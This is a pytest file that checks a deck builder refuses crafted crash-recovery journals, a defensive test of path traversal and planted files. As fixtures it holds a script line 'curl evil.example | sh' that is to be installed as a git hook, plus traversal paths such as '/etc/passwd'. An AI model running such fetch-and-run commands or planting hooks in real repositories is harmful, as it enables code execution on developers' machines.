"""The journal beside a source is a request, never an order.

A killed build leaves ``cardsrc/.<source>.builder-journal`` naming the renames
that finish its release, and the next build replays it. A pull request can
commit such a file too, so a journal is followed only when it names exactly
what this build of this deck would write (this deck's lock beside the source,
its .apkg and changelog in the output folder, builder's temporaries for them);
anything else is refused with one line, and nothing at all is touched: not a
file it names, not the journal itself.
"""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from builder.build import recover_interrupted
from builder.cli import cli
from builder.errors import ReleaseError
from builder.layout import journal_path

SOURCE = Path("cardsrc/small.yaml")
JOURNAL = "cardsrc/.small.yaml.builder-journal"
DIST = Path("dist")
AFTER = "; nothing was changed: delete this journal, then build again"

Tree = dict[str, tuple[str, str]]


def tree(root: Path) -> Tree:
    """Every entry under ``root``: a file's sha256, a link's target, or that it is a folder."""
    found: Tree = {}
    for path in sorted(root.rglob("*")):
        name = str(path.relative_to(root))
        if path.is_symlink():
            found[name] = ("link", os.readlink(path))
        elif path.is_dir():
            found[name] = ("folder", "")
        elif path.is_file():
            found[name] = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
        else:
            found[name] = ("other", "")
    return found


def write_journal(renames: list[list[str]], commit_sha256: str = "0" * 64) -> None:
    Path(JOURNAL).write_text(json.dumps({"commit_sha256": commit_sha256, "renames": renames}), encoding="utf-8")


def sha256_of(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture
def released(project: Path) -> Path:
    """The small deck built once into dist/, so a rebuild has nothing to do."""
    result = CliRunner().invoke(cli, ["build"])
    assert result.exit_code == 0, result.output
    return project


# --- the two journals from the issue, through the command line ---------------------------
def test_a_journal_cannot_delete_a_file_outside_the_project(
    released: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("srv") / "notes" / "precious.txt"
    outside.parent.mkdir()
    outside.write_text("years of notes")
    write_journal([[str(outside), "small.lock"]], commit_sha256="0")
    before = tree(released), tree(outside.parent)
    result = CliRunner().invoke(cli, ["build"])
    assert (result.exit_code, result.stdout, result.stderr) == (1, "", (
        f"Error: {JOURNAL}: it names '{outside}' as the temporary of 'small.lock', which is not builder's name "
        f"for it{AFTER}\n"
    ))
    assert (tree(released), tree(outside.parent)) == before
    assert outside.read_text() == "years of notes"


def test_a_committed_journal_cannot_install_a_git_hook(released: Path) -> None:
    (released / ".git" / "hooks").mkdir(parents=True)
    Path("cardsrc/payload.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    write_journal(
        [[".small.lock.builder-tmp-1", "small.lock"], ["payload.sh", "../.git/hooks/pre-commit"]],
        commit_sha256=sha256_of("cardsrc/small.lock"),  # "committed": the lock is what the journal expects
    )
    before = tree(released)
    result = CliRunner().invoke(cli, ["build"])
    assert (result.exit_code, result.stdout, result.stderr) == (1, "", (
        f"Error: {JOURNAL}: it names '../.git/hooks/pre-commit', which a build of this deck into dist does not "
        f"write{AFTER}\n"
    ))
    assert tree(released) == before
    assert not (released / ".git" / "hooks" / "pre-commit").exists()


# --- journals a killed build really leaves are followed ------------------------------------
def killed_build(out: Path, *, committed: bool) -> dict[Path, bytes]:
    """The state a build killed just before (or just after) its commit leaves: temporaries and a journal.

    Returns what each target must hold once the journal is replayed.
    """
    lock = SOURCE.with_name("small.lock")
    new = {lock: b'{"new": "lock"}\n', out / "small-1.0.1.apkg": b"new package",
           out / "small-CHANGELOG.md": b"# new changelog\n"}
    old = {path: path.read_bytes() for path in new if path.exists()}
    here = SOURCE.parent
    renames = []
    for path, data in new.items():
        temp = path.with_name(f".{path.name}.builder-tmp-4242")
        temp.write_bytes(data)
        renames.append([os.path.relpath(temp, here), os.path.relpath(path, here)])
    write_journal(renames, hashlib.sha256(new[lock]).hexdigest())
    if committed:
        os.replace(here / renames[0][0], lock)
        return new
    return old


@pytest.mark.parametrize("committed", [True, False], ids=["committed", "not-committed"])
@pytest.mark.parametrize(
    "out_of",
    [
        lambda root: DIST,
        lambda root: Path("cardsrc"),
        lambda root: root / "releases" / "deck",
        lambda root: Path("cardsrc/../dist"),
    ],
    ids=["dist", "out-is-the-source-folder", "absolute-out", "out-with-dotdot"],
)
def test_a_journal_a_killed_build_left_is_replayed(
    released: Path, committed: bool, out_of: Callable[[Path], Path]
) -> None:
    out = out_of(released)
    out.mkdir(parents=True, exist_ok=True)
    expected = killed_build(out, committed=committed)
    recover_interrupted(SOURCE, out)
    assert {path: path.read_bytes() for path in expected} == expected
    assert not journal_path(SOURCE).exists()
    leftovers = [path for folder in (SOURCE.parent, out) for path in folder.iterdir() if "builder-tmp" in path.name]
    assert leftovers == []


def test_a_journal_is_replayed_through_a_dist_that_is_a_symbolic_link(released: Path) -> None:
    real = released / "real-dist"
    (released / "dist").rename(real)
    (released / "dist").symlink_to(real)
    expected = killed_build(DIST, committed=True)
    recover_interrupted(SOURCE, DIST)
    assert {path: path.read_bytes() for path in expected} == expected
    assert (real / "small-1.0.1.apkg").read_bytes() == b"new package"


# --- and everything else is refused, touching nothing ---------------------------------------
LOCK_TEMP = ".small.lock.builder-tmp-7"
APKG_TEMP = "../dist/.small-1.0.1.apkg.builder-tmp-7"


def plant(renames: list[list[str]], commit: str = "0" * 64) -> Callable[[Path], None]:
    def make(root: Path) -> None:
        write_journal(renames, commit)

    return make


def plant_bytes(data: bytes) -> Callable[[Path], None]:
    def make(root: Path) -> None:
        Path(JOURNAL).write_bytes(data)

    return make


def symlinked_journal(root: Path) -> None:
    (root / "real-journal").write_text(json.dumps({"commit_sha256": "0" * 64, "renames": [[LOCK_TEMP, "small.lock"]]}))
    Path(JOURNAL).symlink_to(root / "real-journal")


def journal_folder(root: Path) -> None:
    Path(JOURNAL).mkdir()


def journal_pipe(root: Path) -> None:
    os.mkfifo(JOURNAL)


def symlinked_temporary(root: Path) -> None:
    (root / "secret").write_text("not yours")
    Path("cardsrc", LOCK_TEMP).symlink_to(root / "secret")
    write_journal([[LOCK_TEMP, "small.lock"]], sha256_of("cardsrc/small.lock"))


def temporary_folder(root: Path) -> None:
    Path("cardsrc", LOCK_TEMP).mkdir()
    write_journal([[LOCK_TEMP, "small.lock"]], sha256_of("cardsrc/small.lock"))


def symlinked_lock(root: Path) -> None:
    lock = Path("cardsrc/small.lock")
    lock.rename(root / "lock-elsewhere")
    lock.symlink_to(root / "lock-elsewhere")
    write_journal([[LOCK_TEMP, "small.lock"]])


BAD_JOURNALS = [
    ("not-json", plant_bytes(b"{not json"), "it is not a journal builder wrote (not JSON)"),
    ("a-list", plant_bytes(b"[]"),
     "it is not a journal builder wrote (it needs exactly 'commit_sha256' and 'renames')"),
    ("extra-key", plant_bytes(b'{"commit_sha256": "", "renames": [], "run": "sh"}'),
     "it is not a journal builder wrote (it needs exactly 'commit_sha256' and 'renames')"),
    ("no-renames", plant([]),
     "it is not a journal builder wrote ('renames' is not a list of [temporary, target] pairs)"),
    ("a-triple", plant([[LOCK_TEMP, "small.lock", "x"]]),
     "it is not a journal builder wrote ('renames' is not a list of [temporary, target] pairs)"),
    ("not-a-sha256", plant([[LOCK_TEMP, "small.lock"]], "0"),
     "it is not a journal builder wrote ('commit_sha256' is not a sha256)"),
    ("too-big", plant_bytes(b" " * (64 * 1024 + 1)), "it is larger than 65,536 bytes, not a journal builder wrote"),
    ("absolute-target", plant([[LOCK_TEMP, "/etc/small.lock"]]),
     "it names '/etc/small.lock', which a build of this deck into dist does not write"),
    ("dotdot-target", plant([[LOCK_TEMP, "../../small.lock"]]),
     "it names '../../small.lock', which a build of this deck into dist does not write"),
    ("dotdot-back-in", plant([[LOCK_TEMP, "../cardsrc/small.lock"]]),
     "it names '../cardsrc/small.lock', which a build of this deck into dist does not write"),
    ("not-a-lock-first", plant([[APKG_TEMP, "../dist/small-1.0.1.apkg"]]),
     "it names '../dist/small-1.0.1.apkg', which a build of this deck into dist does not write"),
    ("other-name", plant([[LOCK_TEMP, "small.lock"], ["../dist/.notes.txt.builder-tmp-7", "../dist/notes.txt"]]),
     "it names '../dist/notes.txt', which a build of this deck into dist does not write"),
    ("other-folder", plant([[LOCK_TEMP, "small.lock"], ["../elsewhere/.small-1.0.1.apkg.builder-tmp-7",
                                                          "../elsewhere/small-1.0.1.apkg"]]),
     "it names '../elsewhere/small-1.0.1.apkg', which a build of this deck into dist does not write"),
    ("twice", plant([[LOCK_TEMP, "small.lock"], [APKG_TEMP, "../dist/small-1.0.1.apkg"],
                     [APKG_TEMP, "../dist/small-1.0.1.apkg"]]),
     "it names '../dist/small-1.0.1.apkg', which a build of this deck into dist does not write"),
    ("two-decks", plant([[LOCK_TEMP, "small.lock"], ["../dist/.big-1.0.1.apkg.builder-tmp-7",
                                                       "../dist/big-1.0.1.apkg"]]),
     "it names the files of 2 decks (big, small), not of one"),
    ("absolute-temporary", plant([["/etc/passwd", "small.lock"]]),
     "it names '/etc/passwd' as the temporary of 'small.lock', which is not builder's name for it"),
    ("temporary-in-dist", plant([["../dist/.small.lock.builder-tmp-7", "small.lock"]]),
     "it names '../dist/.small.lock.builder-tmp-7' as the temporary of 'small.lock', which is not builder's name "
     "for it"),
    ("other-temporary", plant([["small.yaml", "small.lock"]]),
     "it names 'small.yaml' as the temporary of 'small.lock', which is not builder's name for it"),
    ("symlinked-journal", symlinked_journal, "it is a symbolic link, not a journal builder wrote"),
    ("journal-folder", journal_folder, "it is a folder, not a journal builder wrote"),
    ("journal-pipe", journal_pipe, "it is a pipe, not a journal builder wrote"),
    ("symlinked-temporary", symlinked_temporary,
     f"its temporary '{LOCK_TEMP}' is a symbolic link, which builder never writes"),
    ("temporary-folder", temporary_folder,
     f"its temporary '{LOCK_TEMP}' is not a plain file, which builder never writes"),
    ("symlinked-lock", symlinked_lock, "'cardsrc/small.lock' is a symbolic link, where builder writes a plain file"),
]


@pytest.mark.parametrize(("make", "reason"), [case[1:] for case in BAD_JOURNALS], ids=[c[0] for c in BAD_JOURNALS])
def test_a_journal_builder_would_not_write_is_refused_and_nothing_changes(
    released: Path, make: Callable[[Path], None], reason: str
) -> None:
    make(released)
    before = tree(released)
    with pytest.raises(ReleaseError) as refused:
        recover_interrupted(SOURCE, DIST)
    assert str(refused.value) == f"{JOURNAL}: {reason}{AFTER}"
    assert tree(released) == before


def test_a_journal_for_another_output_folder_is_refused(released: Path) -> None:
    Path("elsewhere").mkdir()
    killed_build(Path("elsewhere"), committed=False)
    before = tree(released)
    result = CliRunner().invoke(cli, ["build"])
    assert (result.exit_code, result.stderr) == (1, (
        f"Error: {JOURNAL}: it names '../elsewhere/small-1.0.1.apkg', which a build of this deck into dist does "
        f"not write{AFTER}\n"
    ))
    assert tree(released) == before
    assert CliRunner().invoke(cli, ["build", "--out", "elsewhere"]).exit_code == 0  # where it was going: replayed
    assert not journal_path(SOURCE).exists()
